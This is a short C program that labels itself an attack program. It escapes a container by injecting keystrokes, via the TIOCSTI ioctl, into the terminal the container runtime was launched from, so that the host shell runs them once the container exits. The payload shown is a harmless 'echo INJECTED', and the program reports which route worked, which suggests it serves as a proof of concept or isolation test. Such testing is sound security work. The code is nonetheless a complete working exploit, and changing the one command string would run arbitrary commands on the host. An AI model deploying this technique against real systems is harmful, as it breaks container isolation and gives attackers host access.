/* Attack program: push a command into the input of the terminal the runtime was started from
 * (TIOCSTI), so that the shell reading it runs the command once the container is gone.
 * Tries the controlling terminal (/dev/tty) and then stdin/stdout/stderr. Prints what worked. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int inject(int fd, const char *text) {
    for (const char *p = text; *p; p++)
        if (ioctl(fd, TIOCSTI, p) != 0)
            return -1;
    return 0;
}

int main(void) {
    const char *cmd = "echo INJECTED\n";
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty >= 0 && inject(tty, cmd) == 0) {
        printf("injected via /dev/tty\n");
        return 0;
    }
    for (int fd = 0; fd < 3; fd++) {
        if (inject(fd, cmd) == 0) {
            printf("injected via fd %d\n", fd);
            return 0;
        }
    }
    printf("refused\n");
    return 0;
}
